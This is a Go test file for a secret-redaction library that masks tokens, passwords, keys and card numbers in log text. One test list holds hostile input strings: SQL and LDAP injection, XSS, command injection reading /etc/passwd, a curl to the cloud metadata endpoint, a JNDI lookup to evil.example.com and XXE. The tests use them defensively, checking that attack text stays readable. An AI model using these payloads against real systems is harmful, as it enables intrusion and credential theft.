package redact

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
)

type stringCase struct {
	Name string `json:"name"`
	In   string `json:"in"`
	Want string `json:"want"`
}

func loadStringCases(tb testing.TB) []stringCase {
	tb.Helper()
	b, err := os.ReadFile("testdata/strings.json")
	if err != nil {
		tb.Fatal(err)
	}
	var cs []stringCase
	if err := json.Unmarshal(b, &cs); err != nil {
		tb.Fatalf("testdata/strings.json: %v", err)
	}
	if len(cs) < 50 {
		tb.Fatalf("testdata/strings.json has only %d cases", len(cs))
	}
	return cs
}

var attackFragments = []string{
	"' OR 1=1--",
	"' UNION SELECT username, password FROM users--",
	"<script>alert(document.cookie)</script>",
	"<img src=x onerror=alert(1)>",
	"; cat /etc/passwd",
	"$(curl http://169.254.169.254/latest/meta-data/)",
	"../../../../etc/shadow",
	"${jndi:ldap://evil.example.com/a}",
	`{"$where": "this.password.length > 0"}`,
	"{{7*7}}",
	`{"__proto__": {"admin": true}}`,
	`<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
	"*)(uid=*))(|(uid=*",
	"http://127.0.0.1:8080/admin",
}

func mustNew(tb testing.TB, cfg Config) *Redactor {
	tb.Helper()
	r, err := New(cfg)
	if err != nil {
		tb.Fatal(err)
	}
	return r
}

func TestString(t *testing.T) {
	r := mustNew(t, Config{})
	for _, c := range loadStringCases(t) {
		t.Run(c.Name, func(t *testing.T) {
			got := r.String(c.In)
			if got != c.Want {
				t.Errorf("String(%q)\n got  %q\n want %q", c.In, got, c.Want)
			}
			if again := r.String(got); again != got {
				t.Errorf("not idempotent: %q -> %q", got, again)
			}
		})
	}
}

func TestStringKeepsAttacksReadable(t *testing.T) {
	r := mustNew(t, Config{Secrets: []string{"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}})
	for _, a := range attackFragments {
		t.Run(a, func(t *testing.T) {
			if got := r.String(a); got != a {
				t.Errorf("attack fragment altered: %q -> %q", a, got)
			}
			// A secret next to the attack is masked, the attack is not.
			in := a + " Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"
			got := r.String(in)
			if !strings.HasPrefix(got, a) || strings.Contains(got, "eyJ") || !strings.Contains(got, Mask) {
				t.Errorf("String(%q) = %q", in, got)
			}
		})
	}
}

func TestStringLiteralSecrets(t *testing.T) {
	const sec = "FwoGZXIvYXdzEJr//////////wEaDH+session/token=="
	r := mustNew(t, Config{Secrets: []string{sec, "short", "", "        "}})
	tests := []struct{ name, in string }{
		{"raw", "token echoed: " + sec + " end"},
		{"query escaped", "GET /x?t=" + url.QueryEscape(sec) + "&y=1"},
		{"path escaped", "GET /x/" + url.PathEscape(sec) + "/y"},
		{"twice", sec + sec},
		{"inside a word", "abc" + sec + "def"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := r.String(tt.in)
			for _, form := range []string{sec, url.QueryEscape(sec), url.PathEscape(sec), "FwoGZXIvYXdzEJr"} {
				if strings.Contains(got, form) {
					t.Errorf("String(%q) = %q still contains %q", tt.in, got, form)
				}
			}
		})
	}
	if got := r.String("a short story"); got != "a short story" {
		t.Errorf("secrets shorter than %d bytes must be ignored, got %q", MinSecretLen, got)
	}
	wantForms := []string{sec, url.QueryEscape(sec), url.PathEscape(sec)}
	for _, f := range wantForms {
		if !slices.Contains(r.secrets, f) {
			t.Errorf("secret form %q not registered (have %q)", f, r.secrets)
		}
	}
	rj := mustNew(t, Config{Secrets: []string{`pa"ss\word-123`}})
	if got := rj.String(`{"x":"pa\"ss\\word-123"}`); strings.Contains(got, `pa\"ss`) {
		t.Errorf("JSON-escaped secret survived: %q", got)
	}
}

func TestIsSecretKey(t *testing.T) {
	r := mustNew(t, Config{})
	secret := []string{
		"password", "Password", "PASSWORD", "user_password", "userPassword", "newpassword", "passwd", "pwd",
		"db_pass", "passphrase", "secret", "client_secret", "clientSecret", "token", "access_token", "accessToken",
		"refreshtoken", "id_token", "api_key", "apikey", "api-key", "x-api-key", "X-API-KEY", "apiKey", "APIKey",
		"authorization", "Authorization", "proxy-authorization", "auth", "x-auth-token", "cookie", "Set-Cookie",
		"session", "sessionid", "session_id", "JSESSIONID", "PHPSESSID", "credential", "credentials",
		"private_key", "privateKey", "access_key", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "signature",
		"x-hub-signature-256", "X-Amz-Security-Token", "card_number", "cardNumber", "credit_card", "cvv", "jwt",
		"otp", "dsn", "sid", "sig", "body.user.password", "items[2].apiKey", "X-Goog-Api-Key", "stripe-signature",
		"ssh_key", "encryptionKey", "connection_string", "max_tokens",
	}
	plain := []string{
		"", "author", "authors", "authorId", "author_name", "authority", "username", "user", "email", "name",
		"key", "s3.object.key", "keys", "bucket", "id", "message", "comment", "query", "q", "tokenizer",
		"secretary", "description", "keyboard", "monkey", "passenger", "compass", "bypass", "passage",
		"User-Agent", "Host", "content-type", "x-forwarded-for", "page", "sort", "object_key", "primary_key",
		"sessions", "signed", "x-request-id", "path", "records[0].body",
	}
	for _, k := range secret {
		t.Run("secret/"+k, func(t *testing.T) {
			if !r.IsSecretKey(k) {
				t.Errorf("IsSecretKey(%q) = false, want true", k)
			}
		})
	}
	for _, k := range plain {
		t.Run("plain/"+k, func(t *testing.T) {
			if r.IsSecretKey(k) {
				t.Errorf("IsSecretKey(%q) = true, want false", k)
			}
		})
	}
}

// TestKeyListsConsistent proves the trigram pre-filter and the word matcher
// agree with the documented word lists.
func TestKeyListsConsistent(t *testing.T) {
	var r *Redactor
	for _, w := range exactWords {
		for _, k := range []string{w, strings.ToUpper(w), "x_" + w, w + "-y"} {
			if !r.IsSecretKey(k) {
				t.Errorf("exact word %q: IsSecretKey(%q) = false", w, k)
			}
		}
	}
	for _, w := range strongWords {
		for _, k := range []string{"my" + w, w + "s", "X_" + strings.ToUpper(w) + "S"} {
			if !r.IsSecretKey(k) {
				t.Errorf("strong word %q: IsSecretKey(%q) = false", w, k)
			}
		}
	}
	for _, q := range keyQualifiers {
		if k := q + "_key"; !r.IsSecretKey(k) {
			t.Errorf("qualifier %q: IsSecretKey(%q) = false", q, k)
		}
	}
	for _, p := range wordPairs {
		if k := p[0] + "-" + p[1]; !r.IsSecretKey(k) {
			t.Errorf("pair %q: IsSecretKey(%q) = false", p, k)
		}
	}
}

func TestWordListsSorted(t *testing.T) {
	for name, list := range map[string][]string{"exactWords": exactWords[:], "keyQualifiers": keyQualifiers[:], "settingSuffixes": settingSuffixes[:]} {
		t.Run(name, func(t *testing.T) {
			if !slices.IsSorted(list) {
				t.Fatalf("%s is not sorted: inSorted would miss words", name)
			}
			if c := slices.Compact(slices.Clone(list)); len(c) != len(list) {
				t.Fatalf("%s has duplicates", name)
			}
			for _, w := range list {
				if !inSorted(list, []byte(w)) || inSorted(list, []byte(w+"x")) {
					t.Errorf("inSorted(%s, %q) is wrong", name, w)
				}
			}
		})
	}
}

func TestExtraKeys(t *testing.T) {
	r := mustNew(t, Config{ExtraKeys: []string{" customer_ref ", "x-*-hash", "pin?"}})
	tests := []struct {
		key  string
		want bool
	}{
		{"customer_ref", true},
		{"CUSTOMER_REF_2", true}, // substring, case-insensitive
		{"the_customer_ref", true},
		{"customer", false},
		{"X-Shop-Hash", true}, // glob over the whole key
		{"x--hash", true},
		{"x-shop-hash-version", false},
		{"pin2", true},
		{"pink", true}, // ? is any byte
		{"pinned", false},
		{"password", true}, // built-ins still apply
		{"author", false},
	}
	for _, tt := range tests {
		t.Run(tt.key, func(t *testing.T) {
			if got := r.IsSecretKey(tt.key); got != tt.want {
				t.Errorf("IsSecretKey(%q) = %v, want %v", tt.key, got, tt.want)
			}
		})
	}
	if got := r.String("customer_ref=C-1234&q=1"); got != "customer_ref=[REDACTED]&q=1" {
		t.Errorf("extra key not applied to key=value pairs: %q", got)
	}
}

func TestNewRejectsBadPatterns(t *testing.T) {
	tests := []struct {
		name    string
		keys    []string
		index   int
		inError string
	}{
		{"empty", []string{"ok", ""}, 1, "empty pattern"},
		{"blank", []string{"   "}, 0, "empty pattern"},
		{"bracket", []string{"ok", "ok2", "a[b]"}, 2, "unsupported glob syntax '['"},
		{"backslash", []string{`x\y`}, 0, `unsupported glob syntax '\\'`},
		{"brace", []string{"{a,b}"}, 0, "unsupported glob syntax '{'"},
		{"control", []string{"a\x01b"}, 0, "control character"},
		{"star only", []string{"*"}, 0, "matches every key"},
		{"stars and qmarks", []string{"*?*"}, 0, "matches every key"},
		{"too long", []string{strings.Repeat("a", 300)}, 0, "longer than 256 bytes"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := New(Config{ExtraKeys: tt.keys})
			if err == nil {
				t.Fatalf("New(%q) = %v, want error", tt.keys, r)
			}
			var pe *PatternError
			if !errors.As(err, &pe) || !errors.Is(err, ErrBadPattern) {
				t.Fatalf("error %v (%T) is not a *PatternError wrapping ErrBadPattern", err, err)
			}
			if pe.Index != tt.index || pe.Pattern != tt.keys[tt.index] {
				t.Errorf("PatternError names ExtraKeys[%d] %q, want [%d] %q", pe.Index, pe.Pattern, tt.index, tt.keys[tt.index])
			}
			if !strings.Contains(err.Error(), tt.inError) || !strings.Contains(err.Error(), "ExtraKeys[") {
				t.Errorf("error %q does not say %q", err, tt.inError)
			}
		})
	}
	if _, err := New(Config{ExtraKeys: []string{"?"}}); err != nil {
		t.Errorf("a single ? (one-byte keys) is a legitimate pattern: %v", err)
	}
}

func TestField(t *testing.T) {
	r := mustNew(t, Config{})
	tests := []struct{ key, value, want string }{
		{"password", "' OR 1=1--", Mask},
		{"Authorization", "", Mask},
		{"X-Api-Key", "anything", Mask},
		{"q", "' OR 1=1--", "' OR 1=1--"},
		{"note", "call me: Bearer abcDEF123456", "call me: Bearer [REDACTED]"},
		{"author", "Jane", "Jane"},
	}
	for _, tt := range tests {
		t.Run(tt.key, func(t *testing.T) {
			if got := r.Field(tt.key, tt.value); got != tt.want {
				t.Errorf("Field(%q, %q) = %q, want %q", tt.key, tt.value, got, tt.want)
			}
		})
	}
}

func TestNilRedactor(t *testing.T) {
	var r *Redactor
	if got := r.String("password=hunter2"); got != "password="+Mask {
		t.Errorf("nil String = %q", got)
	}
	if !r.IsSecretKey("api_key") || r.IsSecretKey("author") {
		t.Error("nil IsSecretKey does not apply the built-in rules")
	}
	if got := r.Field("token", "x"); got != Mask {
		t.Errorf("nil Field = %q", got)
	}
}

func TestStringDoesNotAllocateWhenClean(t *testing.T) {
	r := mustNew(t, Config{Secrets: []string{"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}, ExtraKeys: []string{"x-*-hash"}})
	inputs := append([]string{cleanExcerpt, strings.Repeat(cleanExcerpt, 10)}, attackFragments...)
	for _, in := range inputs {
		if got := r.String(in); got != in {
			t.Fatalf("clean input altered: %q -> %q", in, got)
		}
		if n := testing.AllocsPerRun(50, func() { _ = r.String(in) }); n != 0 {
			t.Errorf("String(%q) allocates %v times", in, n)
		}
	}
	if n := testing.AllocsPerRun(50, func() { _ = r.IsSecretKey("X-Shop-Hash") }); n != 0 {
		t.Errorf("IsSecretKey allocates %v times", n)
	}
}

// pathologicalInputs are n-byte inputs crafted to make a naive scanner
// quadratic (BenchmarkStringPathological measures them per byte).
func pathologicalInputs(n int) map[string]string {
	rep := func(s string) string { return strings.Repeat(s, n/len(s)) }
	return map[string]string{
		"equals":         rep("a="),
		"colons":         rep("password:"),
		"long keys":      rep(strings.Repeat("k", 100) + "="),
		"quoted keys":    rep(`"` + strings.Repeat("k", 100) + `":`),
		"schemes":        rep("://"),
		"schemes w/port": rep("x://h:p/"),
		"pem begins":     rep("-----BEGIN "),
		"pem headers":    rep("-----BEGIN X-----"),
		"jwt starts":     rep("eyJ"),
		"jwt headers":    rep("eyJhbGciOiJIUzI1NiJ9."),
		"digits":         rep("4 "),
		"digit groups":   rep("4111-"),
		"near secret":    rep("a"),
		"braces":         "password=" + rep("{"),
		"quotes":         "password=" + rep(`"\`),
		"bearers":        rep("Bearer "),
		"tags":           rep("<password>"),
		"ghp":            rep("ghp_"),
		"base64":         rep("aB3+"),
	}
}

// pathologicalSecrets are the configured secrets the pathological inputs
// are built around.
var pathologicalSecrets = Config{Secrets: []string{"aaaaaaaaaaaaaaab", "://x:y@"}}

// TestStringPathological runs String on the crafted inputs: it must finish
// and be idempotent. Their cost per byte is measured by
// BenchmarkStringPathological, not asserted here as a time.
func TestStringPathological(t *testing.T) {
	r := mustNew(t, pathologicalSecrets)
	for name, in := range pathologicalInputs(64 << 10) {
		t.Run(name, func(t *testing.T) {
			out := r.String(in)
			if again := r.String(out); again != out {
				t.Errorf("not idempotent")
			}
		})
	}
}

func TestFromEnviron(t *testing.T) {
	env := []string{
		"AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
		"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
		"AWS_SESSION_TOKEN=FwoGZXIvYXdzEJr//////////wEaDOpaque",
		"AWS_REGION=eu-west-1",
		"AWS_LAMBDA_FUNCTION_NAME=checkout-handler",
		"DB_PASSWORD=correcthorsebattery",
		"GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789",
		"GOOGLE_APPLICATION_CREDENTIALS=/var/secrets/google/key.json",
		"OAUTH_TOKEN_URL=https://oauth2.example.com/token",
		"AUTH_MODE=disabled",
		"SESSION_TTL=86400000",
		"API_KEY=short",
		"STRIPE_SECRET_KEY=sk_live_4eC39HqLyjWDarjtT1zdp7dc",
		"DUPLICATE_SECRET=correcthorsebattery",
		"PATH=/usr/bin:/bin",
		"malformed-entry",
	}
	got := fromEnviron(env)
	want := []string{
		"AKIAIOSFODNN7EXAMPLE",
		"FwoGZXIvYXdzEJr//////////wEaDOpaque",
		"correcthorsebattery",
		"ghp_abcdefghijklmnopqrstuvwxyz0123456789",
		"sk_live_4eC39HqLyjWDarjtT1zdp7dc",
		"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
	}
	if !slices.Equal(got, want) {
		t.Errorf("fromEnviron =\n %q\nwant\n %q", got, want)
	}
	if got := fromEnviron(nil); got == nil || len(got) != 0 {
		t.Errorf("fromEnviron(nil) = %#v, want empty non-nil", got)
	}
}

func TestFromEnv(t *testing.T) {
	t.Setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
	t.Setenv("AWS_SESSION_TOKEN", "IQoJb3JpZ2luX2VjEJr//////////session")
	got := FromEnv()
	for _, v := range []string{"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "IQoJb3JpZ2luX2VjEJr//////////session"} {
		if !slices.Contains(got, v) {
			t.Errorf("FromEnv() misses %q", v)
		}
	}
	r := mustNew(t, Config{Secrets: got})
	if out := r.String("leaked IQoJb3JpZ2luX2VjEJr//////////session!"); strings.Contains(out, "IQoJb3JpZ2luX2VjEJr") {
		t.Errorf("session token survived: %q", out)
	}
}

// TestCredentials: what a response may legitimately carry passes, what is a
// credential by its value alone is masked.
func TestCredentials(t *testing.T) {
	const own = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY"
	r := mustNew(t, Config{Secrets: []string{own}})
	random := make([]byte, 3000)
	for i := range random {
		random[i] = byte(i*7919 + i*i*31 + i>>3)
	}
	keep := []struct{ name, in string }{
		{"png as base64", `{"image":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}`},
		{"random base64 blob", base64.StdEncoding.EncodeToString(random)},
		{"pagination cursor", `{"next":"eyJsYXN0IjoiMjAyNi0xMi0wNlQxMjowMDowMFoiLCJpZCI6ImFiYzEyMyJ9"}`},
		{"login response", `{"access_token":"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlX2FiYzEyMw","token_type":"Bearer","refresh_token":"8xLOxBtZp8"}`},
		{"bearer in a docs page", "Authorization: Bearer mF_9.B5f-4.1JqM"},
		{"password field of a form schema", `{"password":"string","minLength":12}`},
		{"sha256", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
	}
	for _, tc := range keep {
		t.Run("keep/"+tc.name, func(t *testing.T) {
			if got := r.Credentials(tc.in); got != tc.in {
				t.Fatalf("changed:\n in  %q\n out %q", tc.in, got)
			}
		})
	}
	mask := []struct{ name, in, secret string }{
		{"own credential", `{"debug":"` + own + `"}`, own},
		{"own credential JSON-escaped", `{"debug":"` + strings.ReplaceAll(own, "/", `\/`) + `"}`, "MDENG"},
		{"AWS access key id", `{"aws_access_key_id":"AKIAIOSFODNN7EXAMPLE"}`, "AKIAIOSFODNN7EXAMPLE"},
		{"GitHub token", "token ghp_16C7e42F292c6912E7710c838347Ae178B4a", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"},
		{"Stripe key", `{"k":"sk_live_4eC39HqLyjWDarjtT1zdp7dc"}`, "sk_live_4eC39HqLyjWDarjtT1zdp7dc"},
		{"PEM private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx7n\n-----END RSA PRIVATE KEY-----", "MIIEowIBAAKCAQEAx7n"},
		{"card number", `{"pan":"4111 1111 1111 1111"}`, "4111 1111 1111 1111"},
		{"URL password", `{"dsn":"postgres://app:hunter2hunter2@db.internal:5432/app"}`, "hunter2hunter2"},
	}
	for _, tc := range mask {
		t.Run("mask/"+tc.name, func(t *testing.T) {
			got := r.Credentials(tc.in)
			if strings.Contains(got, tc.secret) || !strings.Contains(got, Mask) {
				t.Fatalf("not masked:\n in  %q\n out %q", tc.in, got)
			}
			if s := r.String(tc.in); strings.Contains(s, tc.secret) {
				t.Fatalf("String lets it through: %q", s)
			}
		})
	}
}
